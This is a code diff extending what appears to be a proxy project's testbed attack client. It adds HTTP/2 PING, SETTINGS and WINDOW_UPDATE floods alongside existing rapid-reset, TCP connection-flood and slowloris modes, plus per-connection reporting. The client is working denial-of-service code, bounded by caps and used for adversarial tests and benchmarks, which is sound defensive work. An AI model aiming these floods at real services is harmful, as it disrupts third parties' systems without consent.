@@ -1,5 +1,6 @@
 """A hostile pod's client: the abuse one enrolled pod can aim at the shared node proxy,
-bounded, reporting what the proxy did about it.
+bounded, reporting what the proxy did about it.  The one hostile client of the adversarial
+tests and of the noisy-neighbour benchmark.
 
     python -m nodeproxy.testbed.attack KIND --host H --port P [--duration S]
         [--connections N] [--rate R] [--path P] [--reconnect] [--json]
@@ -8,17 +9,30 @@ Kinds:
 
 - ``rapid-reset``: HTTP/2 with prior knowledge (the ``h2`` library) on each of N
   connections; HEADERS (a GET, END_STREAM) then RST_STREAM(CANCEL) on the same stream,
-  pair after pair, as fast as it can (or ``--rate`` pairs/s per connection) until
-  ``--duration`` or ``--pairs`` per connection.  Reports the pairs sent, the GOAWAYs
-  received (error code, last stream id), connections closed or reset by the peer.
+  pair after pair, ``--batch`` per write, as fast as it can (or ``--rate`` pairs/s per
+  connection, ``--pause`` seconds between writes) until ``--duration`` or ``--count``
+  pairs per connection.  Reports what was sent, the GOAWAYs received (error code, last
+  stream id), connections closed or reset by the peer.
+- ``ping-flood``, ``settings-flood``, ``window-update-flood``: the same, with a PING, a
+  SETTINGS (ENABLE_PUSH 0) or a connection WINDOW_UPDATE (+1) frame as the unit, no
+  stream opened.
 - ``flood``: open up to N TCP connections as fast as allowed (``--parallel`` connects in
-  flight, or ``--rate`` new connections/s) and hold them idle, sending nothing, until
-  ``--duration``.  Reports opened, refused/reset/timed out (by reason), closed or reset
-  by the peer (and after how long), still open at the end, the most open at once.
+  flight, or ``--rate`` new connections/s), write ``--send-hex`` bytes on each if given,
+  and hold them, sending nothing more, until ``--duration``.  Reports opened,
+  refused/reset/timed out (by reason), closed or reset by the peer (and after how long),
+  the first status each answered with, still open at the end, the most open at once.
+  With ``--settle S``: S seconds after the last connect it prints a first report
+  (``"phase": "held"``), then holds the open connections until ``--duration`` or until
+  stdin reaches EOF (the caller releases them), and prints the final one.
 - ``slowloris``: N connections each send a never-finished HTTP/1.1 request head, one
-  byte every ``--interval`` seconds, until ``--duration``.  Reports how many the peer
-  closed (and after how long: p50/max), how many got a response and its status (a
-  ``408``), how many are still open at the end.
+  byte every ``--interval`` seconds (``--head-at-once``: the request line and Host header
+  at once, then a byte per interval; ``--silent``: nothing at all), until ``--duration``.
+  Reports how many the peer closed (and after how long: p50/max), how many got a
+  response and its status (a ``408``), how many are still open at the end.
+
+``--per-connection`` (flood, slowloris) adds to each report what every connection saw:
+when the peer closed or reset it (seconds after its connect, or null) and the first
+bytes it answered.
 
 With ``--reconnect`` each of the N connection slots opens a new connection when the
 peer ends (or refuses) one, as a real attacker would: a GOAWAY or a header timeout then
@@ -36,7 +50,10 @@ from __future__ import annotations
 import argparse
 import asyncio
 import json
+import os
 import resource
+import stat
+import sys
 import time
 from collections import Counter
 from collections.abc import Awaitable, Callable, Iterator
@@ -47,18 +64,21 @@ import h2.config
 import h2.connection
 import h2.errors
 import h2.exceptions
+import h2.settings
 
-KINDS = ("rapid-reset", "flood", "slowloris")
+H2_KINDS = ("rapid-reset", "ping-flood", "settings-flood", "window-update-flood")
+KINDS = (*H2_KINDS, "flood", "slowloris")
 MAX_CONNECTIONS = 30000
 MAX_DURATION_S = 600.0
-MAX_PAIRS = 10_000_000  # per connection
+MAX_COUNT = 10_000_000  # HTTP/2 units (pairs or frames) per connection
 DEFAULT_PARALLEL = 64  # connects in flight: below the usual listen backlog
 FD_MARGIN = 256
-BATCH = 50  # rapid-reset pairs per write
-LINGER_S = 1.0  # after the last pair: how long to wait for a GOAWAY or a close
+BATCH = 50  # HTTP/2 units per write
+LINGER_S = 1.0  # after the last write: how long to wait for a GOAWAY or a close
 GRACE_S = 10.0  # the whole run is cancelled this long after --duration
 MAX_OPENS_PER_WORKER = 100  # --reconnect: connections one worker opens at most
 RECONNECT_PAUSE_S = 0.05  # --reconnect: between a connection's end and the next
+ANSWER_BYTES = 64  # --per-connection: the first bytes of each answer kept
 
 
 # ---------------------------------------------------------------------------
@@ -88,12 +108,16 @@ def request_headers(authority: str, path: str) -> list[tuple[bytes, bytes]]:
             (b"user-agent", b"nodeproxy-attack")]
 
 
-def slowloris_bytes(authority: str, path: str) -> Iterator[bytes]:
+def slowloris_bytes(authority: str, path: str, head_at_once: bool = False) -> Iterator[bytes]:
     """The bytes a slowloris connection sends, one at a time, without end: a request line,
     a Host header, then one made-up header line after another.  The blank line that
-    would end the head never comes."""
+    would end the head never comes.  ``head_at_once``: the request line and the Host
+    header come as the first piece, whole."""
     head = f"GET {path} HTTP/1.1\r\nHost: {authority}\r\n".encode()
-    yield from (head[i:i + 1] for i in range(len(head)))
+    if head_at_once:
+        yield head
+    else:
+        yield from (head[i:i + 1] for i in range(len(head)))
     n = 0
     while True:
         line = f"X-Slow-{n}: {'a' * 8}\r\n".encode()
@@ -181,17 +205,41 @@ class Plan:
     rate: float
     path: str
     authority: str
-    pairs: int
+    count: int
     interval: float
     parallel: int
     connect_timeout: float
     reconnect: bool = False
+    batch: int = BATCH
+    pause: float = 0.0
+    send: bytes = b""
+    settle: float | None = None
+    per_connection: bool = False
+    head_at_once: bool = False
+    silent: bool = False
+
+
+@dataclass
+class Connection:
+    """What one TCP connection of a flood or slowloris saw."""
+
+    opened: float  # time.monotonic() at its connect
+    ended_after: float | None = None  # seconds after its connect; None while open
+    reset: bool = False
+    answer: bytearray = field(default_factory=bytearray)  # its first ANSWER_BYTES
+
+    def report(self) -> dict[str, Any]:
+        return {"ended_after": None if self.ended_after is None
+                else round(self.ended_after, 3),
+                "reset": self.reset, "answer": bytes(self.answer).decode("latin-1")}
 
 
 @dataclass
 class Tally:
-    """What happened to a set of connections (the flood's and slowloris')."""
+    """What happened to a set of connections (the flood's and slowloris'); ``keep``: the
+    connections' own records too (``--per-connection``)."""
 
+    keep: bool = False
     opened: int = 0
     connect_errors: Counter[str] = field(default_factory=Counter)
     closed_by_peer_after: list[float] = field(default_factory=list)
@@ -200,18 +248,32 @@ class Tally:
     open_now: int = 0
     most_open: int = 0
     bytes_sent: int = 0
+    connections: list[Connection] = field(default_factory=list)
 
-    def connected(self) -> None:
+    def connected(self) -> Connection:
         self.opened += 1
         self.open_now += 1
         self.most_open = max(self.most_open, self.open_now)
+        conn = Connection(time.monotonic())
+        if self.keep:
+            self.connections.append(conn)
+        return conn
 
-    def ended(self, after: float, reset: bool) -> None:
+    def answered(self, conn: Connection, data: bytes) -> None:
+        """The peer sent ``data`` on ``conn``: its first answer's status is counted."""
+        if not conn.answer and data:
+            status = response_status(data)
+            self.statuses[status if status is not None else 0] += 1
+        conn.answer += data[:ANSWER_BYTES - len(conn.answer)]
+
+    def ended(self, conn: Connection, reset: bool) -> None:
         self.open_now -= 1
-        (self.reset_by_peer_after if reset else self.closed_by_peer_after).append(after)
+        conn.ended_after, conn.reset = time.monotonic() - conn.opened, reset
+        (self.reset_by_peer_after if reset else self.closed_by_peer_after).append(
+            conn.ended_after)
 
     def report(self) -> dict[str, Any]:
-        return {
+        out = {
             "opened": self.opened,
             "connect_failed": sum(self.connect_errors.values()),
             "connect_errors": dict(self.connect_errors),
@@ -224,34 +286,57 @@ class Tally:
             "open_at_end": self.open_now,
             "most_open": self.most_open,
         }
+        if self.keep:
+            out["per_connection"] = [c.report() for c in self.connections]
+        return out
 
 
 async def _connect(plan: Plan, tally: Tally, limit: asyncio.Semaphore,
-                   ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+                   ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, Connection] | None:
     async with limit:
         try:
-            pair = await asyncio.wait_for(asyncio.open_connection(plan.host, plan.port),
-                                          plan.connect_timeout)
+            reader, writer = await asyncio.wait_for(
+                asyncio.open_connection(plan.host, plan.port), plan.connect_timeout)
         except (OSError, TimeoutError) as e:
             tally.connect_errors[describe(e)] += 1
             return None
-    tally.connected()
-    return pair
+    return reader, writer, tally.connected()
+
+
+async def _on_connection(plan: Plan, tally: Tally, limit: asyncio.Semaphore,
+                         body: Callable[[asyncio.StreamReader, asyncio.StreamWriter,
+                                         Connection], Awaitable[None]]) -> None:
+    """Connect (counted in ``tally``), run ``body`` on the connection, count a reset by
+    the peer, and close it whatever happened."""
+    opened = await _connect(plan, tally, limit)
+    if opened is None:
+        return
+    reader, writer, conn = opened
+    try:
+        await body(reader, writer, conn)
+    except OSError:
+        tally.ended(conn, reset=True)
+    finally:
+        writer.close()
 
 
 async def _paced(plan: Plan, one: Callable[[int, float], Awaitable[None]],
-                 rate: float) -> None:
+                 rate: float, released: asyncio.Future[None] | None = None) -> None:
     """Run ``one(index, deadline)`` for each connection, ``rate`` starts per second (0: all
-    at once), until the plan's duration is over.  With ``--reconnect`` a worker whose
-    connection ended before the deadline (closed or refused by the peer) opens another,
-    RECONNECT_PAUSE_S later, at most MAX_OPENS_PER_WORKER times."""
+    at once), until the plan's duration is over (or ``released`` is done).  With
+    ``--reconnect`` a worker whose connection ended before the deadline (closed or
+    refused by the peer) opens another, RECONNECT_PAUSE_S later, at most
+    MAX_OPENS_PER_WORKER times."""
     start = time.monotonic()
     deadline = start + plan.duration
+
+    def over() -> bool:
+        return time.monotonic() >= deadline or (released is not None and released.done())
 
     async def worker(index: int) -> None:
         for _ in range(MAX_OPENS_PER_WORKER if plan.reconnect else 1):
             await one(index, deadline)
-            if time.monotonic() + RECONNECT_PAUSE_S >= deadline:
+            if time.monotonic() + RECONNECT_PAUSE_S >= deadline or over():
                 return
             await asyncio.sleep(RECONNECT_PAUSE_S)
 
@@ -260,7 +345,7 @@ async def _paced(plan: Plan, one: Callable[[int, float], Awaitable[None]],
         wait = start + offset - time.monotonic()
         if wait > 0:
             await asyncio.sleep(wait)
-        if time.monotonic() >= deadline:
+        if over():
             break
         tasks.append(asyncio.ensure_future(worker(i)))
     await asyncio.gather(*tasks)
@@ -270,40 +355,80 @@ async def _paced(plan: Plan, one: Callable[[int, float], Awaitable[None]],
 # flood
 
 
+async def _release_on_eof(released: asyncio.Future[None]) -> None:
+    """Complete ``released`` when stdin reaches EOF (the caller lets the connections go);
+    if stdin is no pipe, never."""
+    try:
+        mode = os.fstat(sys.stdin.fileno()).st_mode
+    except (OSError, ValueError, AttributeError):
+        return
+    if not (stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)):
+        return
+    reader = asyncio.StreamReader()
+    transport, _ = await asyncio.get_running_loop().connect_read_pipe(
+        lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
+    try:
+        while await reader.read(4096):
+            pass
+    finally:
+        transport.close()
+    if not released.done():
+        released.set_result(None)
+
+
+async def _report_held(plan: Plan, tally: Tally, paced: asyncio.Future[None],
+                       started: float) -> None:
+    """Once every connect has ended (or the run has), wait ``--settle`` seconds, then print
+    the ``held`` report: what the peer did to the connections so far."""
+    while (tally.opened + sum(tally.connect_errors.values()) < plan.connections
+           and not paced.done()):
+        await asyncio.sleep(0.01)
+    await asyncio.sleep(plan.settle or 0.0)
+    held = {"phase": "held", "seconds": round(time.monotonic() - started, 3),
+            **tally.report()}
+    print(json.dumps(held), flush=True)
+
+
 async def flood(plan: Plan) -> dict[str, Any]:
-    tally = Tally()
+    tally = Tally(keep=plan.per_connection)
     limit = asyncio.Semaphore(plan.parallel)
+    released: asyncio.Future[None] = asyncio.get_running_loop().create_future()
 
     async def one(_: int, deadline: float) -> None:
-        pair = await _connect(plan, tally, limit)
-        if pair is None:
-            return
-        reader, writer = pair
-        opened = time.monotonic()
-        answered = False
-        try:
-            while True:
-                left = deadline - time.monotonic()
-                if left <= 0:
-                    return  # still open at the deadline: stays counted in open_now
-                try:
-                    data = await asyncio.wait_for(reader.read(4096), left)
-                except TimeoutError:
-                    return
-                if not data:
-                    tally.ended(time.monotonic() - opened, reset=False)
-                    return
-                if not answered:  # the peer said something (an error response?)
-                    answered = True
-                    status = response_status(data)
-                    tally.statuses[status if status is not None else 0] += 1
-        except OSError:
-            tally.ended(time.monotonic() - opened, reset=True)
-        finally:
-            writer.close()
+        await _on_connection(plan, tally, limit, lambda r, w, c: hold(r, w, c, deadline))
 
-    await _paced(plan, one, plan.rate)
-    return tally.report()
+    async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
+                   conn: Connection, deadline: float) -> None:
+        if plan.send:
+            writer.write(plan.send)
+        while True:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return  # still open at the deadline: stays counted in open_now
+            read = asyncio.ensure_future(reader.read(4096))
+            done, _ = await asyncio.wait({read, released}, timeout=left,
+                                         return_when=asyncio.FIRST_COMPLETED)
+            if read not in done:  # the deadline, or released: still open
+                read.cancel()
+                return
+            data = read.result()
+            if not data:
+                tally.ended(conn, reset=False)
+                return
+            tally.answered(conn, data)  # the peer said something (an error?)
+
+    started = time.monotonic()
+    paced = asyncio.ensure_future(_paced(plan, one, plan.rate, released))
+    if plan.settle is None:
+        await paced
+        return tally.report()
+    watcher = asyncio.ensure_future(_release_on_eof(released))
+    try:
+        await _report_held(plan, tally, paced, started)
+        await paced
+    finally:
+        watcher.cancel()
+    return {"phase": "done", **tally.report()}
 
 
 # ---------------------------------------------------------------------------
@@ -311,52 +436,62 @@ async def flood(plan: Plan) -> dict[str, Any]:
 
 
 async def slowloris(plan: Plan) -> dict[str, Any]:
-    tally = Tally()
+    tally = Tally(keep=plan.per_connection)
     limit = asyncio.Semaphore(plan.parallel)
 
     async def one(_: int, deadline: float) -> None:
-        pair = await _connect(plan, tally, limit)
-        if pair is None:
-            return
-        reader, writer = pair
-        opened = time.monotonic()
-        received = bytearray()
-        source = slowloris_bytes(plan.authority, plan.path)
-        try:
-            while True:
-                if not received:  # once answered, send no more: wait for the close
-                    writer.write(next(source))
-                    tally.bytes_sent += 1
-                left = deadline - time.monotonic()
-                if left <= 0:
-                    return
-                try:
-                    data = await asyncio.wait_for(reader.read(4096), min(plan.interval, left))
-                except TimeoutError:
-                    continue
-                if not data:
-                    tally.ended(time.monotonic() - opened, reset=False)
-                    return
-                if not received:
-                    status = response_status(bytes(data))
-                    tally.statuses[status if status is not None else 0] += 1
-                received += data[:4096 - len(received)]
-        except OSError:
-            tally.ended(time.monotonic() - opened, reset=True)
-        finally:
-            writer.close()
+        await _on_connection(plan, tally, limit, lambda r, w, c: drip(r, w, c, deadline))
+
+    async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
+                   conn: Connection, deadline: float) -> None:
+        source = slowloris_bytes(plan.authority, plan.path, plan.head_at_once)
+        while True:
+            if not conn.answer and not plan.silent:  # once answered, wait for the close
+                piece = next(source)
+                writer.write(piece)
+                tally.bytes_sent += len(piece)
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return
+            try:
+                data = await asyncio.wait_for(reader.read(4096), min(plan.interval, left))
+            except TimeoutError:
+                continue
+            if not data:
+                tally.ended(conn, reset=False)
+                return
+            tally.answered(conn, data)
 
     await _paced(plan, one, plan.rate)
     return {**tally.report(), "bytes_sent": tally.bytes_sent}
 
 
 # ---------------------------------------------------------------------------
-# rapid-reset
+# HTTP/2: rapid reset and the control-frame floods
+
+
+def send_unit(kind: str, conn: h2.connection.H2Connection, index: int,
+              headers: list[tuple[bytes, bytes]]) -> None:
+    """Queue one unit of an HTTP/2 kind on ``conn``: a HEADERS+RST_STREAM(CANCEL) pair
+    (rapid-reset), a PING, a SETTINGS or a connection WINDOW_UPDATE of 1."""
+    if kind == "rapid-reset":
+        stream = conn.get_next_available_stream_id()
+        conn.send_headers(stream, headers, end_stream=True)
+        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
+    elif kind == "ping-flood":
+        conn.ping((index % (1 << 64)).to_bytes(8, "big"))
+    elif kind == "settings-flood":
+        conn.update_settings({h2.settings.SettingCodes.ENABLE_PUSH: 0})
+    elif kind == "window-update-flood":
+        conn.increment_flow_control_window(1)
+    else:
+        raise ValueError(f"not an HTTP/2 kind: {kind}")
 
 
 @dataclass
 class H2Outcome:
-    pairs: int = 0
+    connected: bool = False
+    sent: int = 0
     goaway_code: str | None = None
     goaway_last_stream: int | None = None
     closed_by_peer: bool = False
@@ -364,7 +499,7 @@ class H2Outcome:
     error: str | None = None
 
 
-async def _rapid_reset_one(plan: Plan, deadline: float) -> H2Outcome:
+async def _h2_one(plan: Plan, deadline: float) -> H2Outcome:
     out = H2Outcome()
     try:
         reader, writer = await asyncio.wait_for(asyncio.open_connection(plan.host, plan.port),
@@ -372,6 +507,7 @@ async def _rapid_reset_one(plan: Plan, deadline: float) -> H2Outcome:
     except (OSError, TimeoutError) as e:
         out.error = f"connect: {describe(e)}"
         return out
+    out.connected = True
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                 header_encoding=None))
     conn.initiate_connection()
@@ -409,20 +545,18 @@ async def _rapid_reset_one(plan: Plan, deadline: float) -> H2Outcome:
     receiver = asyncio.ensure_future(receive())
     started = time.monotonic()
     try:
-        while (out.pairs < plan.pairs and time.monotonic() < deadline and not ended.is_set()
+        while (out.sent < plan.count and time.monotonic() < deadline and not ended.is_set()
                and out.goaway_code is None):
-            for _ in range(min(BATCH, plan.pairs - out.pairs)):
-                stream = conn.get_next_available_stream_id()
-                conn.send_headers(stream, headers, end_stream=True)
-                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
-                out.pairs += 1
+            for _ in range(min(plan.batch, plan.count - out.sent)):
+                send_unit(plan.kind, conn, out.sent, headers)
+                out.sent += 1
             writer.write(conn.data_to_send())
             await writer.drain()
+            wait = plan.pause
             if plan.rate > 0:
-                ahead = started + out.pairs / plan.rate - time.monotonic()
-                await asyncio.sleep(max(0.0, min(ahead, deadline - time.monotonic())))
-            else:
-                await asyncio.sleep(0)  # let the receiver read what came back
+                wait = max(wait, started + out.sent / plan.rate - time.monotonic())
+            # 0: still let the receiver read what came back
+            await asyncio.sleep(max(0.0, min(wait, deadline - time.monotonic())))
         if not ended.is_set():  # a GOAWAY or a close may be on its way
             linger = min(LINGER_S, max(0.0, deadline + LINGER_S - time.monotonic()))
             try:
@@ -440,19 +574,22 @@ async def _rapid_reset_one(plan: Plan, deadline: float) -> H2Outcome:
     return out
 
 
-async def rapid_reset(plan: Plan) -> dict[str, Any]:
+async def h2_flood(plan: Plan) -> dict[str, Any]:
+    """Any of H2_KINDS: ``plan.kind`` says what each unit sent is."""
     results: list[H2Outcome] = []
 
     async def one(_: int, deadline: float) -> None:
-        results.append(await _rapid_reset_one(plan, deadline))
+        results.append(await _h2_one(plan, deadline))
 
-    await _paced(plan, one, 0.0)  # --rate paces the pairs here, not the connects
+    await _paced(plan, one, 0.0)  # --rate paces the units here, not the connects
     goaways = Counter(r.goaway_code for r in results if r.goaway_code is not None)
     last_streams = [r.goaway_last_stream for r in results if r.goaway_last_stream is not None]
     errors = Counter(r.error for r in results if r.error)
     return {
-        "connections": len(results),
-        "pairs_sent": sum(r.pairs for r in results),
+        "connections": sum(r.connected for r in results),
+        "connect_failed": sum(not r.connected for r in results),
+        "sent": sum(r.sent for r in results),
+        "unit": "pairs" if plan.kind == "rapid-reset" else "frames",
         "goaway": sum(goaways.values()),
         "goaway_codes": dict(goaways),
         "goaway_last_stream": {"min": min(last_streams), "max": max(last_streams)}
@@ -468,7 +605,7 @@ async def rapid_reset(plan: Plan) -> dict[str, Any]:
 
 
 RUNNERS: dict[str, Callable[[Plan], Awaitable[dict[str, Any]]]] = {
-    "rapid-reset": rapid_reset, "flood": flood, "slowloris": slowloris}
+    **dict.fromkeys(H2_KINDS, h2_flood), "flood": flood, "slowloris": slowloris}
 
 
 def parse(argv: list[str] | None = None) -> tuple[Plan, bool]:
@@ -481,14 +618,29 @@ def parse(argv: list[str] | None = None) -> tuple[Plan, bool]:
     parser.add_argument("--duration", type=float, default=10.0, help="seconds (bound)")
     parser.add_argument("--connections", type=int, default=1)
     parser.add_argument("--rate", type=float, default=0.0,
-                        help="rapid-reset: pairs/s per connection; flood, slowloris: new "
+                        help="HTTP/2 kinds: units/s per connection; flood, slowloris: new "
                              "connections/s (0: as fast as allowed)")
     parser.add_argument("--path", default="/")
     parser.add_argument("--authority", help="Host / :authority (default HOST:PORT)")
-    parser.add_argument("--pairs", type=int, default=MAX_PAIRS,
-                        help="rapid-reset: pairs per connection at most")
+    parser.add_argument("--count", type=int, default=MAX_COUNT,
+                        help="HTTP/2 kinds: pairs or frames per connection at most")
+    parser.add_argument("--batch", type=int, default=BATCH,
+                        help="HTTP/2 kinds: pairs or frames per write")
+    parser.add_argument("--pause", type=float, default=0.0,
+                        help="HTTP/2 kinds: seconds between writes at least")
     parser.add_argument("--interval", type=float, default=1.0,
                         help="slowloris: seconds between bytes")
+    parser.add_argument("--head-at-once", action="store_true",
+                        help="slowloris: the request line and Host header in one write")
+    parser.add_argument("--silent", action="store_true",
+                        help="slowloris: send nothing at all, only see when it is closed")
+    parser.add_argument("--send-hex", default="",
+                        help="flood: bytes (hex) written on each connection once open")
+    parser.add_argument("--settle", type=float,
+                        help="flood: print a 'held' report this long after the last "
+                             "connect, then hold until --duration or stdin's EOF")
+    parser.add_argument("--per-connection", action="store_true",
+                        help="flood, slowloris: report what each connection saw")
     parser.add_argument("--parallel", type=int, default=DEFAULT_PARALLEL,
                         help="connects in flight at once")
     parser.add_argument("--connect-timeout", type=float, default=5.0)
@@ -501,21 +653,33 @@ def parse(argv: list[str] | None = None) -> tuple[Plan, bool]:
         parser.error(f"--duration must be in (0, {MAX_DURATION_S:g}]")
     if not 1 <= args.connections <= MAX_CONNECTIONS:
         parser.error(f"--connections must be between 1 and {MAX_CONNECTIONS}")
-    if not 1 <= args.pairs <= MAX_PAIRS:
-        parser.error(f"--pairs must be between 1 and {MAX_PAIRS}")
+    if not 1 <= args.count <= MAX_COUNT:
+        parser.error(f"--count must be between 1 and {MAX_COUNT}")
+    if not 1 <= args.batch <= 10_000 or not 0 <= args.pause <= 10:
+        parser.error("--batch must be between 1 and 10000, --pause between 0 and 10")
     if args.rate < 0 or args.interval < 0.01 or args.parallel < 1 \
             or args.connect_timeout <= 0:
         parser.error("--rate must be >= 0, --interval >= 0.01, --parallel >= 1, "
                      "--connect-timeout > 0")
+    if args.settle is not None and not 0 <= args.settle < args.duration:
+        parser.error("--settle must be >= 0 and below --duration")
     if not args.path.startswith("/"):
         parser.error("--path must start with /")
+    try:
+        send = bytes.fromhex(args.send_hex)
+    except ValueError:
+        parser.error("--send-hex must be hexadecimal")
+    if len(send) > 65536:
+        parser.error("--send-hex: at most 65536 bytes")
     authority = args.authority or (f"[{args.host}]:{args.port}" if ":" in args.host
                                    else f"{args.host}:{args.port}")
     return Plan(kind=args.kind, host=args.host, port=args.port, duration=args.duration,
                 connections=args.connections, rate=args.rate, path=args.path,
-                authority=authority, pairs=args.pairs, interval=args.interval,
+                authority=authority, count=args.count, interval=args.interval,
                 parallel=args.parallel, connect_timeout=args.connect_timeout,
-                reconnect=args.reconnect), args.json
+                reconnect=args.reconnect, batch=args.batch, pause=args.pause, send=send,
+                settle=args.settle, per_connection=args.per_connection,
+                head_at_once=args.head_at_once, silent=args.silent), args.json
 
 
 async def run(plan: Plan) -> dict[str, Any]:
